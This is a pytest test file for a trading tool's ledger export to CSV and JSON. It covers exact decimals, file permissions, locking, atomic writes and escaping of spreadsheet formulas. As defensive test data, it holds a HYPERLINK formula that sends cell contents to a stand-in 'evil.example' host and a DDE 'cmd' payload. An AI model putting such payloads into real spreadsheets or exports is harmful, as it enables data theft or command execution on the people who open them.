"""`hydra-trader export`: what stands in the ledger, to the last digit, for other programs."""

import csv
import fcntl
import io
import os
import shutil
from decimal import Decimal
from pathlib import Path
from typing import Any

import apsw
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hydra.ops.exit_codes import ExitCode
from hydra.store import export_writing
from hydra.store.export_writing import as_csv, as_csv_rows, as_json, write_export
from hydra.store.exporting import Cell, Export, exported
from hydra.store.ledger import Ledger
from hydra.store.schema import MIGRATIONS
from hydra.trading.differences import DifferenceKind
from hydra.trading.orders import Side
from hydra.trading.trading_state import Cause, CauseClass, TradingState
from messages.orders import OrderRejected
from tests.ops.sessions import Command, command, files_in, json_of, ledger_in, played
from tests.store import records
from tests.store.orders import AT, approved, decision, filled

TABLES = [
    "orders", "fills", "positions", "lots", "bots", "counters", "budgets", "halts", "exclusions",
    "fees", "fee_bookings", "values", "facts",
]  # fmt: skip
UTC = "2024-01-02T14:30:00.000000000Z"
EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return played(tmp_path_factory.mktemp("session"))


@pytest.fixture
def folder(session: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(session, tmp_path / "session"))


@pytest.fixture
def run(folder: Path) -> Command:
    return command(folder)


@pytest.fixture
def ledger(tmp_path: Path) -> Path:
    """One with something in every table, and with decimals and texts that are not easy."""
    path = records.files_in(tmp_path).ledger
    ledger = Ledger.open(path, venue="paper", at=AT)
    ledger.bind_account("PA-1", AT)
    ledger.engine_started("1.0.0", "digest", AT)
    bought = approved(quantity=Decimal("10.000"))
    ledger.record_intent(bought, AT)
    ledger.record_report(filled(bought.order, "4.500", "x-1", price=Decimal("1.8730E+2")), AT)
    sold = approved(decision(signal=2, bot="reversal", symbol="MSFT"), side=Side.SELL)
    ledger.record_intent(sold, AT)
    ledger.record_report(filled(sold.order, "10", "x-2", price=Decimal("0.10")), AT)
    refused = approved(decision(signal=3))
    ledger.record_intent(refused, AT)
    name = refused.order.client_order_id
    ledger.record_report(OrderRejected(client_order_id=name, reason=EVIL, at=AT), AT)
    ledger.grant_budget("momentum", "2024-01-02", Decimal("12500.50"), AT)
    ledger.latch_halt(
        Cause(
            code="feed_silent",
            cause_class=CauseClass.LIMIT,
            state=TradingState.CLOSE_ONLY,
            since=AT + 1,
            detail='17 s, "more"\nthan 15 s',
            symbol="MSFT",
        ),
        AT,
    )
    ledger.exclude_difference(
        DifferenceKind.POSITION,
        "MSFT",
        Decimal("-2.50"),
        reason="held by hand",
        operator="pat",
        at=AT,
    )
    ledger.put("watermark", "-5.25", AT)
    ledger.commit()
    ledger.close()
    return path


def export_of(ledger: Path) -> Export:
    return exported(records.files_in(ledger.parent.parent))


def tables_in(export: Export) -> dict[str, list[dict[str, Cell]]]:
    return {
        table.name: [dict(zip(table.columns, row, strict=True)) for row in table.rows]
        for table in export.tables
    }


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def read_csv(path: Path) -> list[dict[str, str]]:
    return csv_rows(path.read_bytes())


def test_everything_that_stands_in_the_ledger_is_in_it(ledger: Path) -> None:
    export = export_of(ledger)

    tables = tables_in(export)
    opened = Ledger.open(ledger, venue="paper", at=AT)
    assert (export.mark, export.state_hash) == (opened.mark, opened.state_hash())
    opened.close()
    assert list(tables) == TABLES
    assert [order["status"] for order in tables["orders"]] == [
        "partially_filled", "filled", "rejected",
    ]  # fmt: skip
    assert tables["fills"][0] == {
        "seq": 6,
        "execution_id": "x-1",
        "client_order_id": approved().order.client_order_id,
        "bot": "momentum",
        "symbol": "AAPL",
        "side": "buy",
        "quantity": Decimal("4.500"),
        "price": Decimal("187.30"),
        "at": UTC,
        "at_ns": AT,
    }
    assert tables["positions"] == [
        {"bot": "momentum", "symbol": "AAPL", "position": Decimal("4.500"),
         "cost_basis": Decimal("842.85000"), "lots": 1},
        {"bot": "reversal", "symbol": "MSFT", "position": Decimal(-10),
         "cost_basis": Decimal("-1.00"), "lots": 1},
    ]  # fmt: skip
    assert tables["lots"][1] == {
        "bot": "reversal",
        "symbol": "MSFT",
        "lot": 1,
        "side": "sell",
        "quantity": Decimal(10),
        "price": Decimal("0.10"),
        "opened_at": UTC,
        "opened_at_ns": AT,
        "execution_id": "x-2",
    }
    assert tables["bots"] == [
        {"bot": "momentum", "cash": Decimal("-842.85000"), "realised": Decimal(0)},
        {"bot": "reversal", "cash": Decimal("1.00"), "realised": Decimal(0)},
    ]
    assert [row["rejections"] for row in tables["counters"]] == [1, 0]
    assert tables["budgets"] == [
        {"bot": "momentum", "session": "2024-01-02", "amount": Decimal("12500.50")}
    ]
    assert tables["halts"] == [
        {
            "code": "feed_silent",
            "class": "limit",
            "state": "close_only",
            "since": "2024-01-02T14:30:00.000000001Z",
            "since_ns": AT + 1,
            "detail": '17 s, "more"\nthan 15 s',
            "bot": None,
            "symbol": "MSFT",
        }
    ]
    assert tables["exclusions"] == [
        {
            "kind": "position",
            "subject": "MSFT",
            "quantity": Decimal("-2.50"),
            "reason": "held by hand",
            "operator": "pat",
        }
    ]
    assert tables["values"] == [{"key": "watermark", "value": "-5.25"}]
    assert {"name": "venue", "value": "paper"} in tables["facts"]


def test_decimals_and_times_stand_in_both_forms_as_they_are_recorded(
    ledger: Path, tmp_path: Path
) -> None:
    connection = apsw.Connection(str(ledger))
    recorded = list(connection.execute("SELECT quantity, price FROM fills ORDER BY seq"))
    connection.close()

    names = write_export(export_of(ledger), tmp_path / "out", with_csv=True, with_json=True)

    assert names == ["about.csv", *(f"{name}.csv" for name in TABLES), "state.json"]
    state = orjson.loads((tmp_path / "out" / "state.json").read_bytes())
    rows = read_csv(tmp_path / "out" / "fills.csv")
    assert [(row["quantity"], row["price"]) for row in rows] == recorded
    assert [(row["quantity"], row["price"]) for row in state["fills"]] == recorded
    assert recorded[0] == ("4.500", "187.30")
    assert [(row["at"], row["at_ns"]) for row in rows] == [(UTC, str(AT))] * 2
    assert [(row["at"], row["at_ns"]) for row in state["fills"]] == [(UTC, AT)] * 2


def test_csv_and_json_say_the_same_and_which_moment_it_is(ledger: Path, tmp_path: Path) -> None:
    export = export_of(ledger)
    write_export(export, tmp_path / "out", with_csv=True, with_json=True)

    state = orjson.loads((tmp_path / "out" / "state.json").read_bytes())

    about = {row["name"]: row["value"] for row in read_csv(tmp_path / "out" / "about.csv")}
    assert about == {
        "format": "1",
        "schema_version": str(len(MIGRATIONS)),
        "ledger_seq": str(export.mark.seq),
        "ledger_chain": export.mark.chain,
        "state_hash": export.state_hash,
    }
    assert {name: str(state[name]) for name in about} == about
    for name in TABLES:
        rows = read_csv(tmp_path / "out" / f"{name}.csv")
        assert [as_texts(row) for row in state[name]] == [
            {column: unescaped(text) for column, text in row.items()} for row in rows
        ]


def as_texts(row: dict[str, Any]) -> dict[str, str]:
    return {column: "" if value is None else str(value) for column, value in row.items()}


def unescaped(text: str) -> str:
    return text.removeprefix("'")


def test_what_a_spreadsheet_would_take_for_a_formula_is_text(ledger: Path) -> None:
    (table,) = [table for table in export_of(ledger).tables if table.name == "orders"]

    rows = csv_rows(as_csv(table.columns, table.rows))

    assert rows[2]["status_reason"] == f"'{EVIL}"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 123", "'+49 30 123"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1", "'\uff1d1"),
        ("'quoted", "''quoted"),
        ("-", "'-"),
        ("-5.25", "-5.25"),
        ("5 = 5", "5 = 5"),
        ("", ""),
        (None, ""),
        (Decimal("-5.25"), "-5.25"),
        (Decimal("-1E+3"), "-1E+3"),
        (-7, "-7"),
    ],
)
def test_a_text_is_made_safe_and_a_number_stays_a_number(cell: Cell, written: str) -> None:
    ((found, _),) = [
        tuple(row.values()) for row in csv_rows(as_csv(("cell", "end"), [(cell, "end")]))
    ]

    assert found == written


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])))
def test_every_text_can_be_had_back(text: str) -> None:
    ((found, _),) = [
        tuple(row.values()) for row in csv_rows(as_csv(("cell", "end"), [(text, "end")]))
    ]

    assert unescaped(found) == text
    assert found[:1] not in tuple("=+@\t\r\n\uff0d\uff1d\uff0b\uff20")


# As a command.


def test_a_session_is_exported_to_a_private_folder_and_the_record_stays_as_it_was(
    folder: Path, run: Command, tmp_path: Path
) -> None:
    before = files_in(folder)
    to = tmp_path / "out"

    code, out, err = run("export", "--to", str(to))

    assert (code, err) == (ExitCode.CLEAN, "")
    assert out.startswith(f"exported to {to}: about.csv, orders.csv, ")
    assert "8 orders, 8 fills, 2 positions, 0 lots, 2 bots" in out
    assert files_in(folder) == before
    assert to.stat().st_mode & 0o777 == 0o700
    assert {path.stat().st_mode & 0o777 for path in to.iterdir()} == {0o600}
    assert len(read_csv(to / "orders.csv")) == 8


@pytest.mark.parametrize(
    ("form", "files"),
    [
        ("json", {"state.json"}),
        ("csv", {"about.csv", *(f"{name}.csv" for name in TABLES)}),
        ("both", {"about.csv", *(f"{name}.csv" for name in TABLES), "state.json"}),
    ],
)
def test_the_form_can_be_chosen(run: Command, tmp_path: Path, form: str, files: set[str]) -> None:
    (tmp_path / "out").mkdir()  # empty, so it may be taken

    answer = run("export", "--to", f"{tmp_path}/out", "--format", form, "--json")

    assert answer[0] == ExitCode.CLEAN
    assert set(json_of(answer)["files"]) == files
    assert {path.name for path in (tmp_path / "out").iterdir()} == files
    assert json_of(answer)["rows"]["fills"] == 8


@pytest.mark.parametrize("what", ["a file in it", "a file", "a link"])
def test_what_is_there_is_not_mixed_with_it(run: Command, tmp_path: Path, what: str) -> None:
    to = tmp_path / "out"
    if what == "a file in it":
        to.mkdir()
        (to / "mine").touch()
    elif what == "a file":
        to.touch()
    else:
        to.symlink_to(tmp_path)

    code, out, err = run("export", "--to", str(to))

    assert (code, out) == (ExitCode.USAGE, "")
    assert err.startswith(f"{to}: found ") and err.count("\n") == 1
    assert {path.name for path in tmp_path.iterdir()} == {"session", "out"}


def test_a_ledger_that_is_not_whole_is_not_exported_i54(
    folder: Path, run: Command, tmp_path: Path
) -> None:
    connection = apsw.Connection(str(ledger_in(folder)))
    connection.execute("UPDATE sub_ledgers SET cash = '1000000'")
    connection.close()

    code, _, err = run("export", "--to", f"{tmp_path}/out")

    assert code == ExitCode.DURABILITY_REFUSED
    assert "its tables are not those that were written with its last event" in err
    assert not (tmp_path / "out").exists()


def test_what_a_killed_run_left_is_cleared_up_and_there_is_never_half_of_it(
    ledger: Path, tmp_path: Path
) -> None:
    partial = tmp_path / ".out.partial"
    partial.mkdir(mode=0o700)
    (partial / "orders.csv").write_text("half of it")
    (partial / "folder").mkdir()

    write_export(export_of(ledger), tmp_path / "out", with_csv=False, with_json=True)

    assert [path.name for path in (tmp_path / "out").iterdir()] == ["state.json"]
    assert not partial.exists()


def test_of_two_at_a_time_the_second_is_refused(run: Command, tmp_path: Path) -> None:
    partial = tmp_path / ".out.partial"
    partial.mkdir(mode=0o700)
    descriptor = os.open(partial, os.O_RDONLY)
    fcntl.flock(descriptor, fcntl.LOCK_EX)

    code, _, err = run("export", "--to", f"{tmp_path}/out")

    os.close(descriptor)
    assert code == ExitCode.HELD_BY_ANOTHER
    assert "found another export at work" in err


def test_the_export_of_a_running_engine_is_one_moment_i55(tmp_path: Path) -> None:
    files = records.files_in(tmp_path)
    with records.at_work(files) as trade:
        exports = []
        for _ in range(5):
            trade(5)
            exports.append(exported(files))

    seqs = [export.mark.seq for export in exports]
    assert seqs == sorted(seqs)
    for export in exports:
        tables = tables_in(export)
        shares = sum(Decimal(str(fill["quantity"])) for fill in tables["fills"])
        assert [row["position"] for row in tables["positions"]] == ([shares] if shares else [])
        assert [row["fills"] for row in tables["counters"]] == [len(tables["fills"])]


def test_a_folder_without_a_ledger_gives_one_clear_line(tmp_path: Path) -> None:
    code, _, err = command(tmp_path)("export", "--to", f"{tmp_path}/out")

    assert code == ExitCode.USAGE
    assert err.startswith(f"{ledger_in(tmp_path)}: found no ledger") and err.count("\n") == 1


def test_the_same_ledger_gives_the_same_bytes(ledger: Path) -> None:
    assert as_json(export_of(ledger)) == as_json(export_of(ledger))


@pytest.mark.parametrize("at_once", [1, 2, 1_000])
def test_the_files_are_the_same_however_many_rows_are_written_at_once(
    ledger: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, at_once: int
) -> None:
    export = export_of(ledger)
    content: dict[str, object] = {
        "format": 1,
        "schema_version": export.schema,
        "ledger_seq": export.mark.seq,
        "ledger_chain": export.mark.chain,
        "state_hash": export.state_hash,
    }
    for table in export.tables:
        content[table.name] = [dict(zip(table.columns, row, strict=True)) for row in table.rows]
    monkeypatch.setattr(export_writing, "ROWS_AT_ONCE", at_once)

    write_export(export, tmp_path / "out", with_csv=True, with_json=True)

    indented = orjson.OPT_INDENT_2 | orjson.OPT_APPEND_NEWLINE
    assert (tmp_path / "out" / "state.json").read_bytes() == orjson.dumps(
        content, default=str, option=indented
    )
    for table in export.tables:
        written = (tmp_path / "out" / f"{table.name}.csv").read_bytes()
        assert written == as_csv_rows([table.columns, *table.rows])
